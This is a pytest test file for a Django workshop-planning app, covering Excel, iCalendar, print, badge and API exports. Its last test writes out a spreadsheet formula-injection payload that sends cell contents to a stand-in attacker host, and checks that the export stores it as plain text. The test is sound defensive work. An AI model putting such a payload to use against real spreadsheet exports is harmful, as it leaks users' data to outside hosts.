"""Exports: group lists as Excel, print pages (lists, overview of the day, name badges) and the programme as
iCalendar; the read API."""

import datetime as dt
import io
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.urls import reverse
from icalendar import Calendar

from samskap.workshops import actions
from samskap.workshops.models import Group

from .factories import fill, request_plan


@pytest.fixture
def plan(coordinator, event):
    actions.add_programme_item(event, {"start": dt.time(9, 30), "end": dt.time(10),
                                                         "title": "Registrering og kaffe"}, actor=coordinator.user)
    actions.add_programme_item(event, {"start": dt.time(10), "title": "Velkommen",
                                                         "speaker": "Astrid Kvam Hoel"}, actor=coordinator.user)
    actions.add_programme_item(event, {"start": dt.time(10, 30), "end": dt.time(11, 30),
                                                         "title": "Verksted"}, actor=coordinator.user)
    for session, (start, end) in zip(event.sessions.order_by("number"), [(12, 13), (13, 14)], strict=True):
        actions.update_session(session, {"start": dt.time(start), "end": dt.time(end)}, actor=coordinator.user)
    actions.add_staff(event, {"name": "Marte Vollan"}, actor=coordinator.user)
    fill(event, 10)
    plan = request_plan(coordinator.user, event)
    assert plan.status == "done", plan.error
    return plan


@pytest.mark.postgres
def test_group_lists_as_excel(client, coordinator, event, plan):
    client.force_login(coordinator.user)
    response = client.get(reverse("workshops:plan_xlsx", args=[event.slug, plan.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    wb = openpyxl.load_workbook(io.BytesIO(response.content))
    assert wb.sheetnames[:3] == ["Oversikt", "Økt 1", "Økt 2"] and wb.sheetnames[-1] == "Ikke plassert"
    overview = list(wb["Oversikt"].iter_rows(values_only=True))
    assert overview[0][:7] == ("Økt", "Bord", "Tema", "Gruppe", "Deltakere", "Bordvert", "Referent")
    groups = Group.objects.filter(plan=plan)
    listed = [row for row in overview[1:] if isinstance(row[3], int)]
    assert len(listed) == groups.count()
    for g in groups:
        assert any(row[2] == g.theme.title and row[3] == g.number and row[4] == g.assignments.count()
                   for row in listed)
    people = list(wb["Økt 1"].iter_rows(values_only=True))
    assert people[0][:5] == ("Tema", "Gruppe", "Bord", "Rolle", "Navn")
    names = {row[4] for row in people[1:]}
    session1 = plan.assignments.filter(session__number=1, group__isnull=False)
    assert {a.registration.name for a in session1} <= names


@pytest.mark.postgres
def test_programme_as_ical(client, event, plan):
    response = client.get(reverse("workshops:ical", args=[event.slug]))
    assert response.status_code == 200 and response["Content-Type"] == "text/calendar; charset=utf-8"
    calendar = Calendar.from_ical(response.content)
    events = list(calendar.walk("VEVENT"))
    assert len(events) == 3 + 2  # programme items and sessions
    assert len({str(e["UID"]) for e in events}) == 5
    oslo = ZoneInfo("Europe/Oslo")
    starts = sorted(e.decoded("DTSTART") for e in events)
    assert starts[0] == dt.datetime.combine(event.date, dt.time(9, 30), tzinfo=oslo)
    welcome = next(e for e in events if str(e["SUMMARY"]) == "Velkommen")
    assert welcome.decoded("DTEND") == dt.datetime.combine(event.date, dt.time(10, 30), tzinfo=oslo)
    assert "Astrid Kvam Hoel" in str(welcome["DESCRIPTION"])
    assert welcome["DTSTART"].params["TZID"] == "Europe/Oslo"
    assert list(calendar.walk("VTIMEZONE"))
    session = next(e for e in events if "Økt 1" in str(e["SUMMARY"]))
    assert "Laboratorium for folkehelse" in str(session["DESCRIPTION"])
    assert str(session["LOCATION"]) == "Steinkjer"


@pytest.mark.postgres
def test_print_pages(client, coordinator, event, plan):
    client.force_login(coordinator.user)
    sheets = client.get(reverse("workshops:plan_print", args=[event.slug, plan.pk])).content.decode()
    assert sheets.count('class="ds-card group-sheet"') == Group.objects.filter(plan=plan).count()
    assert "workshops/workshops.css" in sheets and 'class="actions no-print"' in sheets
    css = (Path(__file__).parents[1] / "static" / "workshops" / "workshops.css").read_text()
    assert "break-after: page" in css
    overview = client.get(reverse("workshops:plan_overview", args=[event.slug, plan.pk])).content.decode()
    assert ">Bord</th>" in overview
    assert "Registrering og kaffe" in overview and "Referent" in overview
    badges = client.get(reverse("workshops:plan_badges", args=[event.slug, plan.pk])).content.decode()
    assert badges.count('class="badge"') == event.registrations.filter(status="confirmed").count()
    assert "Person 00" in badges and "bord" in badges


@pytest.mark.parametrize("name", ["plan_xlsx", "plan_print", "plan_overview", "plan_badges"])
def test_exports_are_for_coordinators(client, researcher, event, plan, name):
    url = reverse(f"workshops:{name}", args=[event.slug, plan.pk])
    assert client.get(url).status_code == 302
    client.force_login(researcher.user)
    assert client.get(url).status_code == 403


@pytest.mark.postgres
def test_api_lists_events_and_shows_the_published_plan(client, coordinator, event, plan):
    response = client.get("/api/v1/workshops")
    assert response.status_code == 200
    rows = response.json()
    assert rows[0]["slug"] == event.slug and rows[0]["confirmed"] == 10 and rows[0]["registration_open"]
    detail = client.get(f"/api/v1/workshops/{event.slug}").json()
    assert [s["number"] for s in detail["sessions"]] == [1, 2]
    assert len(detail["programme"]) == 3 and detail["published_plan"] is None
    actions.publish_plan(plan, actor=coordinator.user)
    detail = client.get(f"/api/v1/workshops/{event.slug}").json()
    published = detail["published_plan"]
    assert published["id"] == plan.pk
    groups = [g for s in published["sessions"] for t in s["themes"] for g in t["groups"]]
    assert len(groups) == Group.objects.filter(plan=plan).count()
    assert all(g["members"] is None for g in groups)  # names only for coordinators
    # Hosts and note-takers too (guests and unlisted staff among them), as on the pages.
    assert any(g.host_name or g.note_taker_name for g in Group.objects.filter(plan=plan))
    assert all(g["host"] is None and g["note_taker"] is None for g in groups)
    client.force_login(coordinator.user)
    detail = client.get(f"/api/v1/workshops/{event.slug}").json()
    groups = [g for s in detail["published_plan"]["sessions"] for t in s["themes"] for g in t["groups"]]
    assert any(g["host"] or g["note_taker"] for g in groups)
    assert sum(len(g["members"]) for g in groups) == plan.assignments.filter(group__isnull=False).count()
    assert client.get("/api/v1/workshops/finnes-ikke").status_code == 404


def test_group_lists_keep_a_formula_name_as_text(coordinator, event):
    """A guest registered as =HYPERLINK(...) is listed as that text, not as a live formula."""
    from samskap.workshops.exports import groups_xlsx
    from samskap.workshops.models import Registration

    payload = '=HYPERLINK("http://evil.example/?"&A2,"Klikk her")'
    fill(event, 10)
    first = Registration.objects.filter(event=event).order_by("pk").first()
    Registration.objects.filter(pk=first.pk).update(name=payload)
    plan = request_plan(coordinator.user, event)
    assert plan.status == "done", plan.error
    wb = openpyxl.load_workbook(io.BytesIO(groups_xlsx(plan)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert any(c.value == payload for c in cells)
    assert all(c.data_type != "f" for c in cells)
